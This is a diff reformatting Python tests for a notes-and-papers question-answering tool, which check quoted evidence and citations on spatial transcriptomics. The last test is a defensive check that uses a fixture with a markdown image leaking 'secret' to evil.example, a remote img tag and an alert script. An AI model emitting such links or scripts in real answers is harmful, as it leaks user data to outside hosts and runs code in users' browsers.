@@ -12,14 +12,17 @@ from zocrates_nb.agents.evidence_only import LABEL, best_passage
 # Demo library: a short child note (inlined whole) and the long notes the question also finds.
 QUESTION = "Does the Slide-seq bead size matter for lymph node follicles?"
 SHORT_NOTE_KEY = "W2KJVEB4"
-SHORT_NOTE_TEXT = ("TODO: does the 10 µm bead size matter for lymph node follicles (200–500 µm across)? "
-                   "Probably fine for zones, not for single Tfh cells.")
-SHORT_NOTE_PARENT = ("*Highly sensitive spatial transcriptomics at near-cellular resolution with Slide-seqV2* "
-                     "(Stickels et al., 2021)")
+SHORT_NOTE_TEXT = (
+    "TODO: does the 10 µm bead size matter for lymph node follicles (200–500 µm across)? "
+    "Probably fine for zones, not for single Tfh cells."
+)
+SHORT_NOTE_PARENT = (
+    "*Highly sensitive spatial transcriptomics at near-cellular resolution with Slide-seqV2* (Stickels et al., 2021)"
+)
 
 
 def test_evidence_only_answer_quotes_the_library_without_keys(demo_workbench):
-    stack = Stack(demo_workbench, None)      # no llm.base_url: the embedded default
+    stack = Stack(demo_workbench, None)  # no llm.base_url: the embedded default
     tokens: list[str] = []
     answer = stack.coordinator.ask(QUESTION, on_token=tokens.append)
     assert answer.mode == "evidence-only" and answer.text.startswith(f"**{LABEL}**")
@@ -29,8 +32,9 @@ def test_evidence_only_answer_quotes_the_library_without_keys(demo_workbench):
     # the short note is the top hit and is quoted whole, headed by its title and its paper
     assert hits[0].key == SHORT_NOTE_KEY and hits[0].word_count < 50
     assert f"> {SHORT_NOTE_TEXT}" in answer.text
-    assert re.search(r"1\. Your note \*\*“TODO: does the 10 µm bead size[^”]*”\*\*, on "
-                     + re.escape(SHORT_NOTE_PARENT), answer.text)
+    assert re.search(
+        r"1\. Your note \*\*“TODO: does the 10 µm bead size[^”]*”\*\*, on " + re.escape(SHORT_NOTE_PARENT), answer.text
+    )
     short = next(c for c in answer.citations if c.key == SHORT_NOTE_KEY)
     assert short.kind == "note" and short.citation == "note on Stickels et al., 2021"
     # the first two long notes found were read in full and their best paragraph quoted
@@ -51,14 +55,18 @@ def test_evidence_only_answer_quotes_the_library_without_keys(demo_workbench):
 
 def test_evidence_only_quotes_a_papers_best_paragraph_with_its_citation(demo_workbench):
     answer = Stack(demo_workbench, None).coordinator.ask("Which RCTD mode should I use on Visium?")
-    assert "Your note **“RCTD modes on Visium”**, on *Robust decomposition of cell type mixtures in " \
-           "spatial transcriptomics* (Cable et al., 2022)" in answer.text
-    assert "**Robust decomposition of cell type mixtures in spatial transcriptomics** (Cable et al., 2022)" \
-        in answer.text
+    assert (
+        "Your note **“RCTD modes on Visium”**, on *Robust decomposition of cell type mixtures in "
+        "spatial transcriptomics* (Cable et al., 2022)" in answer.text
+    )
+    assert (
+        "**Robust decomposition of cell type mixtures in spatial transcriptomics** (Cable et al., 2022)" in answer.text
+    )
     # the quoted paragraph comes from the paper chunk the retrievers rank best; since chunks fit the
     # model's window (issue 11) that is the chunk on its modes and the Visium/Slide-seq use
-    paper_part = answer.text.split("**Robust decomposition of cell type mixtures in spatial transcriptomics** "
-                                   "(Cable et al., 2022)", 1)[1].split("_For a written answer", 1)[0]
+    paper_part = answer.text.split(
+        "**Robust decomposition of cell type mixtures in spatial transcriptomics** (Cable et al., 2022)", 1
+    )[1].split("_For a written answer", 1)[0]
     assert "> " in paper_part and "mode" in paper_part
     paper = next(c for c in answer.citations if c.kind == "paper")
     assert paper.citation == "Cable et al., 2022"
@@ -68,7 +76,7 @@ def test_evidence_only_quotes_a_papers_best_paragraph_with_its_citation(demo_wor
 def test_evidence_only_with_nothing_found_says_what_to_do(tmp_path):
     from zocrates_nb.workbench import Workbench
 
-    empty = Workbench(tmp_path / "never-synced", auto_sync=False)   # nothing indexed yet
+    empty = Workbench(tmp_path / "never-synced", auto_sync=False)  # nothing indexed yet
     try:
         answer = Stack(empty, None).coordinator.ask("Which RCTD mode should I use on Visium?")
     finally:
@@ -85,16 +93,25 @@ def test_best_passage_picks_the_matching_paragraph():
 
 def _answer(text: str) -> Answer:
     usage = TurnUsage()
-    usage.add("library_synthesizer", {"prompt_tokens": 10, "completion_tokens": 5, "profile_tokens": 2,
-                                      "cost_usd": None, "latency_ms": 3})
-    return Answer(text=text, citations=[Citation("A note", "note", "note", key="NTAB2345")],
-                  evidence=[{"key": "NTAB2345", "kind": "note", "title": "A note", "text": "x"}],
-                  usage=usage.as_dict(), mode="llm", session_id="s1")
+    usage.add(
+        "library_synthesizer",
+        {"prompt_tokens": 10, "completion_tokens": 5, "profile_tokens": 2, "cost_usd": None, "latency_ms": 3},
+    )
+    return Answer(
+        text=text,
+        citations=[Citation("A note", "note", "note", key="NTAB2345")],
+        evidence=[{"key": "NTAB2345", "kind": "note", "title": "A note", "text": "x"}],
+        usage=usage.as_dict(),
+        mode="llm",
+        session_id="s1",
+    )
 
 
 def test_answer_display_loads_no_remote_image_and_runs_no_script():
-    answer = _answer("See ![chart](https://evil.example/leak?q=secret) and <img src=https://evil.example/x.png>"
-                     "<script>alert(1)</script> with $\\alpha$.")
+    answer = _answer(
+        "See ![chart](https://evil.example/leak?q=secret) and <img src=https://evil.example/x.png>"
+        "<script>alert(1)</script> with $\\alpha$."
+    )
     html = answer._repr_html_()
     markdown = answer._repr_markdown_()
     for rendered in (html, markdown):
